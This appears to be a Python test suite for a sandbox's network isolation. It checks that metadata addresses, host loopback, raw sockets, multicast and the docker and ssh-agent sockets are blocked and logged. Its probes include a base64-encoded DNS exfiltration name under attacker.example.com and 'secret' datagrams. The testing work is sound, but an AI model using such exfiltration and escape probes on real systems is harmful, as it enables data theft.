"""Ways out: other hosts, the host's loopback, metadata addresses, names, unix sockets. Nothing is ever
sent anywhere but to servers on this machine's loopback."""

import os
import shlex
import socket
import subprocess
import sys
import threading

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "../support"))
from denials import logged, refused  # noqa: E402
from harness import test  # noqa: E402
from local_server import LocalServer  # noqa: E402

FACTS = {"stops": "network", "event": "flow.denied"}

PYTHON = "/usr/bin/python3"

# Ports 80 and 443 are open for one name, so that the broker listens on them.
ONE_HOST = ["--allow-host", "registry.example.com"]

CONNECT = """
import socket, sys
try:
    socket.create_connection((sys.argv[1], int(sys.argv[2])), 5).close()
except OSError as error:
    sys.exit(f"blocked: {error!r}")
print("connected")
"""

SEND_UDP = """
import socket, sys
family = socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET
s = socket.socket(family, socket.SOCK_DGRAM)
s.connect((sys.argv[1], int(sys.argv[2])))
s.send(b"out")
s.settimeout(3)
try:
    print("answer", s.recv(100))
except OSError as error:
    sys.exit(f"blocked: {error!r}")
"""


def connect(t, address, port, options=ONE_HOST):
    return t.sandbox(PYTHON, "-c", CONNECT, address, port, options=options)


def control(t, program=CONNECT):
    """The program reaches a server on loopback without the sandbox."""
    server = LocalServer({})
    t.succeeded(t.bare(PYTHON, "-c", program, "127.0.0.1", server.port), "control")
    return server


@test(rows="A125")
def metadata_addresses(t):
    """cloud metadata addresses are refused, and the try is in the log"""
    control(t)
    for address in ("169.254.169.254", "169.254.170.2", "fd00:ec2::254", "100.100.100.200"):
        result = connect(t, address, 80)
        if result.code == 0:  # accepted only to be closed: no byte comes or goes
            t.contains(result.out, "connected")
        event = logged(t, result, "flow.denied", address)
        t.equal(event["details"]["port"], 80)


FETCH = """
import sys, urllib.request
try:
    print("got", urllib.request.urlopen(sys.argv[1], timeout=5).read())
except Exception as error:
    sys.exit(f"blocked: {error!r}")
"""


@test(rows="A120 A123 A124")
def fetch_from_an_address(t):
    """a fetch from an address that no rule names gets nothing"""
    server = LocalServer({"/": b"data"})
    t.contains(t.bare(PYTHON, "-c", FETCH, server.url("127.0.0.1")).out, "data", "control")
    for address in ("203.0.113.7", "169.254.169.254", "[2001:db8::7]", "198.18.0.1", "10.0.2.2"):
        result = t.sandbox(PYTHON, "-c", FETCH, f"http://{address}/", options=ONE_HOST)
        refused(t, result)
        logged(t, result, "flow.denied", address.strip("[]"))


def tries(result, port):
    """Protocol and severity of each denied try at `port`."""
    return [(e["details"]["protocol"], e["severity"]) for e in result.of_type("flow.denied")
            if e["details"].get("port") == port]


@test(rows="A124 A137 A193")
def ports_that_no_rule_names(t):
    """a try at a port that no rule names, or by UDP, is refused at once, and in the log once"""
    control(t)
    udp_port, _ = dns_server()
    t.contains(t.bare(PYTHON, "-c", SEND_UDP, "127.0.0.1", udp_port).out, "answer", "control")
    for options in (ONE_HOST, []):  # with the broker's listeners, and with no network at all
        for address in ("192.0.2.1", "2001:db8::7"):
            for program, port, protocol, reason in (
                (CONNECT, 81, "tcp", "no rule names this port"),
                (SEND_UDP, 9999, "udp", "only TCP gets out"),
            ):
                result = t.sandbox(PYTHON, "-c", program, address, port, options=options)
                refused(t, result)
                t.contains(result.err, "ConnectionRefusedError")
                t.equal(tries(result, port), [(protocol, "notice")], result.events)
                t.equal(logged(t, result, "flow.denied", address)["details"]["reason"], reason)
                t.contains(result.err, f"blocked: {address}", "the summary names it")


@test(rows="A121 A131")
def host_loopback(t):
    """services on the host's loopback are not reached, by any spelling of it"""
    server = control(t)
    v6 = socket.create_server(("::", 0), family=socket.AF_INET6, dualstack_ipv6=True)
    t.succeeded(t.bare(PYTHON, "-c", CONNECT, "::1", v6.getsockname()[1]), "control")
    for port in (server.port, v6.getsockname()[1]):
        for address in ("127.0.0.1", "localhost", "::1", "::ffff:127.0.0.1", "0.0.0.0", "127.1.2.3"):
            result = connect(t, address, port)
            refused(t, result)
            # "localhost" is two addresses.
            t.equal(set(tries(result, port)), {("tcp", "info")}, f"{address} in the log: {result}")
            t.lacks(result.err, "host blocked")
    t.equal(server.requests, [])


@test(rows="A122")
def host_by_its_own_address(t):
    """services of the host are not reached by its address in the network"""
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect(("203.0.113.1", 9))  # sends nothing: asks the routing table
        address = probe.getsockname()[0]
    except OSError:
        address = "127.0.0.1"
    listener = socket.create_server(("0.0.0.0", 0))
    port = listener.getsockname()[1]
    t.succeeded(t.bare(PYTHON, "-c", CONNECT, address, port), "control")
    refused(t, connect(t, address, port))


@test(rows="A137", stops="broker")
def other_ports_of_an_allowed_host(t):
    """an allowed host is reached on its ports alone"""
    server = LocalServer({"/": b"data"})
    other = LocalServer({"/": b"data"})
    rule = ["--allow-host", f"localhost:{server.port}"]
    t.contains(t.sandbox(PYTHON, "-c", FETCH, server.url(), options=rule).out, "data", "control")
    refused(t, t.sandbox(PYTHON, "-c", FETCH, other.url(), options=rule))
    t.equal(other.requests, [])


@test(rows="A025 A120 A128 A129 A141", stops="broker", event="name.lookup")
def names(t):
    """a name that no rule allows does not resolve, and the try is in the log"""
    name = "c2vjcmv0.attacker.example.com"
    look = "import socket, sys; print('address', socket.gethostbyname(sys.argv[1]))"
    permitted = t.sandbox(PYTHON, "-c", look, name, options=["--allow-host", "*.attacker.example.com"])
    t.contains(t.succeeded(permitted, "with a rule").out, "address 198.1", "control")
    result = t.sandbox(PYTHON, "-c", look, name, options=ONE_HOST)
    t.true(result.code != 0, result)
    t.contains(result.err, "gaierror")
    event = logged(t, result, "name.lookup", name)
    t.equal(event["details"]["verdict"], "denied")
    t.contains(result.err, name, "the summary names it")
    # With no rule at all there is no network, and no name either.
    result = t.sandbox(PYTHON, "-c", look, name)
    t.true(result.code != 0, result)
    t.contains(result.err, "gaierror")


@test(stops="broker", event="name.lookup")
def unknown_name(t):
    """an allowed name that the host does not know is a failure at once, and nothing more is open"""
    look = ("import socket\ntry: socket.gethostbyname('missing.invalid')\n"
            "except socket.gaierror as error: print('failed:', error.errno == socket.EAI_AGAIN)")
    result = t.sandbox(PYTHON, "-c", look, options=["--allow-host", "missing.invalid"])
    t.contains(t.succeeded(result).out, "failed: True")
    verdicts = [e["details"]["verdict"] for e in result.of_type("name.lookup")]
    t.true("failed" in verdicts, result.events)
    t.contains(result.err, "not reached: missing.invalid")


def dns_server():
    """Answers each query on UDP with 192.0.2.1, and remembers it."""
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("127.0.0.1", 0))
    seen = []

    def serve():
        while True:
            query, peer = server.recvfrom(4096)
            seen.append(query)
            answer = query[:2] + b"\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + query[12:]
            answer += b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04\xc0\x00\x02\x01"
            server.sendto(answer, peer)

    threading.Thread(target=serve, daemon=True).start()
    return server.getsockname()[1], seen


@test(rows="A127 A128", stops="network, broker", event="name.lookup")
def own_resolver(t):
    """a query sent straight to another resolver, over UDP, reaches nobody"""
    port, seen = dns_server()
    program = """
import socket, sys
query = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
try:
    s.connect((sys.argv[1], int(sys.argv[2])))
    s.send(query)
    print("answer", s.recv(512)[-4:])
except OSError as error:
    sys.exit(f"blocked: {error!r}")
"""
    answer = t.bare(PYTHON, "-c", program, "127.0.0.1", port)
    t.contains(t.succeeded(answer, "control").out, "answer b'\\xc0\\x00\\x02\\x01'")
    del seen[:]
    refused(t, t.sandbox(PYTHON, "-c", program, "127.0.0.1", port, options=ONE_HOST))
    # Port 53 of any address is the broker: it answers itself, with "no such name".
    result = t.sandbox(PYTHON, "-c", program, "192.0.2.53", 53, options=ONE_HOST)
    t.lacks(result.out, "answer b'\\xc0\\x00\\x02\\x01'")
    logged(t, result, "name.lookup", "secret.example.com")
    t.equal(seen, [])


@test(rows="A126")
def udp(t):
    """UDP goes nowhere"""
    port, seen = dns_server()
    t.contains(t.bare(PYTHON, "-c", SEND_UDP, "127.0.0.1", port).out, "answer", "control")
    del seen[:]
    for address, where in (("127.0.0.1", port), ("203.0.113.7", 443), ("2001:db8::7", 443)):
        refused(t, t.sandbox(PYTHON, "-c", SEND_UDP, address, where, options=ONE_HOST))
    t.equal(seen, [])


SEND_TO_MANY = """
import socket, sys, time
address = sys.argv[1]
s = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
for i in range(3):
    s.sendto(b"secret", (address, int(sys.argv[2])))
time.sleep(0.3)  # who has ended can't be found by its socket any more
"""

RECEIVE_FROM_MANY = """
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("", 0))
s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(sys.argv[1]) + socket.inet_aton("127.0.0.1"))
s.settimeout(float(sys.argv[2]))
print(s.getsockname()[1], flush=True)
try:
    print(s.recv(100).decode())
except TimeoutError:
    print("nothing")
"""


@test(rows="A126")
def multicast_and_broadcast(t):
    """datagrams to many get nowhere, and who sent them is in the log, once for each destination"""
    group = "239.255.77.77"

    def received(send, seconds):
        with subprocess.Popen([PYTHON, "-c", RECEIVE_FROM_MANY, group, str(seconds)], stdout=subprocess.PIPE, text=True) as receiver:
            send(receiver.stdout.readline().strip())
            return receiver.stdout.read().strip()

    with_interface = SEND_TO_MANY.replace("for i", "s.setsockopt(0, socket.IP_MULTICAST_IF, socket.inet_aton('127.0.0.1'))\nfor i")
    t.equal(received(lambda port: t.succeeded(t.bare(PYTHON, "-c", with_interface, group, port)), 10), "secret", "control")
    t.equal(received(lambda port: t.sandbox(PYTHON, "-c", with_interface, group, port, options=ONE_HOST), 1.5), "nothing")
    for options in (ONE_HOST, []):
        for address in (group, "224.0.0.251", "255.255.255.255", "ff02::fb%lo", "ff05::1"):
            result = t.sandbox(PYTHON, "-c", SEND_TO_MANY, address, 5353, options=options)
            t.equal(tries(result, 5353), [("udp", "notice")], (address, result.events))
            event = logged(t, result, "flow.denied", address.removesuffix("%lo"))
            t.equal(event["actor"]["kind"], "project-script", event)
            t.contains(event["process"]["exe"], "python")


@test(rows="A126 A127", stops="network, attribution", event="flow.denied name.lookup")
def sender_without_connection(t):
    """who sends a datagram by a socket that was never connected, and ends at once, is named"""
    send = """
import os, socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
data, address = bytes.fromhex(sys.argv[3]), (sys.argv[1], int(sys.argv[2]))
s.sendto(data, address) if sys.argv[4] == "sendto" else s.sendmsg([data], [], 0, address)
os._exit(0)
"""
    query = "1234010000010000000000000673656372657407657861" "6d706c6503636f6d0000010001"  # secret.example.com A
    for port, kind in ((9999, "flow.denied"), (53, "name.lookup")):
        for call in ("sendto", "sendmsg"):
            inner = shlex.join([PYTHON, "-c", send, "192.0.2.1", str(port), query, call])
            result = t.succeeded(t.sandbox("sh", "-c", f"{inner}; sleep 0.2", options=ONE_HOST))
            event, = [e for e in result.of_type(kind) if e["severity"] == "notice"]
            t.equal(event["actor"]["kind"], "project-script", event)
            t.contains(event["process"]["exe"], "python")


@test(rows="A142 A143", stops="filter", event="packet.denied")
def icmp_and_raw(t):
    """a process gets no socket for ICMP, raw packets, SCTP, UDP-Lite or vsock, and the try is in the log"""
    make = """
import socket, sys
try:
    socket.socket(*(getattr(socket, name) for name in sys.argv[1:]))
except OSError as error:
    sys.exit(f"blocked: {error!r}")
"""
    t.succeeded(t.bare(PYTHON, "-c", make, "AF_INET", "SOCK_DGRAM", "IPPROTO_UDP"), "control")
    for words in (("AF_INET", "SOCK_DGRAM", "IPPROTO_ICMP"), ("AF_INET6", "SOCK_DGRAM", "IPPROTO_ICMPV6"),
                  ("AF_INET", "SOCK_RAW", "IPPROTO_ICMP"), ("AF_INET", "SOCK_RAW", "IPPROTO_TCP"),
                  ("AF_INET", "SOCK_STREAM", "IPPROTO_SCTP"), ("AF_INET6", "SOCK_SEQPACKET", "IPPROTO_SCTP"),
                  ("AF_INET6", "SOCK_DGRAM", "IPPROTO_UDPLITE"),
                  ("AF_PACKET", "SOCK_RAW"), ("AF_PACKET", "SOCK_DGRAM"), ("AF_VSOCK", "SOCK_STREAM")):
        result = t.sandbox(PYTHON, "-c", make, *words, options=ONE_HOST)
        refused(t, result)
        unknown = {"AF_VSOCK": "Address family not supported", "IPPROTO_SCTP": "Protocol not supported",
                   "IPPROTO_UDPLITE": "Protocol not supported"}
        t.contains(result.err, next((text for word, text in unknown.items() if word in words), "PermissionError"), words)
        family = words[0].removeprefix("AF_").lower()
        protocol = (family if family in ("packet", "vsock") else "raw" if "SOCK_RAW" in words
                    else words[-1].removeprefix("IPPROTO_").lower())
        event, = result.of_type("packet.denied")
        t.equal(event["details"]["protocol"], protocol)
        t.equal(event["actor"]["kind"], "project-script")
        t.contains(event["process"]["exe"], "python")


@test(rows="A123 A124", event="none")
def interfaces(t):
    """there is no interface but loopback"""
    t.equal(t.succeeded(t.sandbox("sh", "-c", "ls /sys/class/net 2>/dev/null || cut -d: -f1 -s /proc/net/dev | tr -d ' '")).out.split(), ["lo"])


UNIX = """
import socket, sys
s = socket.socket(socket.AF_UNIX)
try:
    s.connect(sys.argv[1].replace("@", "\\0"))
except OSError as error:
    sys.exit(f"blocked: {error!r}")
print("connected")
"""


def unix_socket(t, path, reason):
    server = socket.socket(socket.AF_UNIX)
    server.bind(path.replace("@", "\0"))
    server.listen()
    t.succeeded(t.bare(PYTHON, "-c", UNIX, path), "control")
    result = t.sandbox(PYTHON, "-c", UNIX, path, options=ONE_HOST)
    refused(t, result)
    t.true(any(word in result.err for word in reason), f"the reason: {result.err}")


@test(rows="A151 A152 A153 A154 A155 A158", stops="mounts", event="none")
def docker_and_agent_sockets(t):
    """unix sockets of the host (docker, ssh-agent) are not there"""
    (t.home / ".docker/run").mkdir(parents=True)
    gone = ["FileNotFoundError"]
    unix_socket(t, str(t.home / ".docker/run/docker.sock"), gone)
    unix_socket(t, str(t.home / ".ssh/agent.sock"), gone)
    unix_socket(t, str(t.base / "agent.sock"), gone)
    result = t.sandbox("sh", "-c", "ls /run/docker.sock /var/run/docker.sock /run/user/* /run/systemd /run/dbus")
    t.equal(result.out, "")


@test(rows="A150 A155", event="none")
def abstract_unix_socket(t):
    """abstract unix sockets of the host are not reached"""
    unix_socket(t, f"@srt-{os.getpid()}", ["ConnectionRefusedError"])


@test(rows="A156 A157", stops="mounts", event="none")
def unix_socket_in_the_project(t):
    """a unix socket in the project (of a dev server) does not answer"""
    unix_socket(t, str(t.project / "dev.sock"), ["ConnectionRefused", "PermissionError", "FileNotFound"])


@test(rows="A148", stops="environment", event="none")
def proxy_variables(t):
    """the host's proxy variables do not enter, and leaving them out changes nothing"""
    environment = {"HTTPS_PROXY": "http://127.0.0.1:9", "ALL_PROXY": "socks5h://127.0.0.1:9"}
    t.contains(t.bare("env", env=environment).out, "HTTPS_PROXY", "control")
    t.lacks(t.succeeded(t.sandbox("env", env=environment)).out, "_PROXY")
